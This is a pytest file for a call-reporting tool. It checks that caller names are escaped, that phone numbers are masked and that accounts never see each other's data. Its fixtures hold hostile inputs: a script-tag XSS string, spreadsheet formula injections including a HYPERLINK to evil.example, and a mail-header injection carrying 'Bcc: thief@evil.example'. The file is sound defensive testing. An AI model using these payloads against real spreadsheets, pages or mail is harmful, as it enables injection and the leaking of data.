"""Caller names come from strangers, numbers are masked, and one account never sees another's data."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from small_lake import FULL_NUMBER, Book, built, config, fill

from trunkline.reports import csvfile
from trunkline.reports.write import Built
from trunkline.settings import write_settings
from trunkline.store.lake import Lake

EVIL_NAMES = (
    "<script>alert(1)</script>",
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(A1)",
    "line\r\nbreak",
    "-2+3",
)


def test_hostile_names_are_text_everywhere(tmp_path: Path) -> None:
    evil = config(name="Acme\r\nBcc: thief@evil.example <b>", masking="none")
    with Lake(tmp_path / "lake").read() as connection:
        write_settings(connection, evil, [2026])
        fill(connection)
        for number, name in enumerate(EVIL_NAMES):
            Book(connection).call(
                f"e{number}", "2026-11-12 12:00", "missed", f"+6141600000{number}", external_name=name
            )
        acme = built(connection, tmp_path / "out", evil)["acme"]
    assert "\n" not in acme.subject
    assert "\r" not in acme.subject
    for content in (acme.html, acme.paths["page"].read_text("utf-8")):
        assert "<script>alert" not in content
        assert "<b>" not in content.replace('<b class="t"', "").replace("<b>Missed-call rate", "").replace(
            "<b>Callers", ""
        ).replace("<b>Recording", "")
    cells = list(csv.reader(io.StringIO(acme.paths["csv"].read_text("utf-8-sig"))))
    names = [row[cells[0].index("caller_name")] for row in cells[1:]]
    assert not [name for name in names if name[:1] in "=@-+" and name]
    with zipfile.ZipFile(acme.paths["workbook"]) as book:
        for number in (2, 3, 4, 5):
            assert b"<f>" not in book.read(f"xl/worksheets/sheet{number}.xml")
        assert b"hyperlink" not in book.read("xl/worksheets/sheet2.xml")


@pytest.mark.parametrize(
    ("cell", "said"),
    [
        ("=1+1", "'=1+1"),
        (" =1+1", "' =1+1"),
        ("@x", "'@x"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("+61412000001", "+61412000001"),
        ("+61 4•• ••• 123", "+61 4•• ••• 123"),
        ("Jo", "Jo"),
        (None, ""),
        (True, "true"),
        (dt.datetime(2026, 11, 9, 9, 0), "2026-11-09 09:00:00"),  # noqa: DTZ001
    ],
)
def test_csv_cells(cell: object, said: object) -> None:
    assert csvfile.safe(cell) == said


@pytest.mark.parametrize(
    ("masking", "in_mail", "beside_it"), [("mail", False, True), ("everywhere", False, False), ("none", True, True)]
)
def test_masking(tmp_path: Path, masking: str, in_mail: bool, beside_it: bool) -> None:
    chosen = config(masking=masking)
    with Lake(tmp_path / "lake").read() as connection:
        write_settings(connection, chosen, [2026])
        fill(connection)
        connection.execute("UPDATE calls SET did = NULL")  # the account's own number is nobody's secret
        reports = built(connection, tmp_path / "out", chosen)
    acme = reports["acme"]
    for content in (acme.html, acme.text):
        assert bool(FULL_NUMBER.search(content)) is in_mail
    with zipfile.ZipFile(acme.paths["workbook"]) as book:
        strings = book.read("xl/sharedStrings.xml").decode()
    for content in (acme.paths["page"].read_text("utf-8"), acme.paths["csv"].read_text("utf-8"), strings):
        assert bool(FULL_NUMBER.search(content)) is beside_it
        assert beside_it or "alert(1)" not in content
    agency = reports["northwind"]
    assert not FULL_NUMBER.search(agency.html + agency.text + agency.paths["page"].read_text("utf-8"))


def test_one_accounts_data_never_reaches_another(reports: dict[str, Built]) -> None:
    secrets = {
        "acme": ("Acme", "acme", "12000", "Front desk"),
        "bluegum": ("Bluegum", "bluegum"),
        "stille": ("Stille", "stille"),
    }
    for scope, marks in secrets.items():
        for other in set(secrets) - {scope}:
            report = reports[other]
            with zipfile.ZipFile(report.paths["workbook"]) as book:
                strings = book.read("xl/sharedStrings.xml").decode()
            everything = (
                report.subject
                + report.html
                + report.text
                + strings
                + "".join(report.paths[kind].read_text("utf-8") for kind in ("page", "csv"))
            )
            assert not [mark for mark in marks if mark in everything]
            assert not set(report.recipients) & set(reports[scope].recipients)
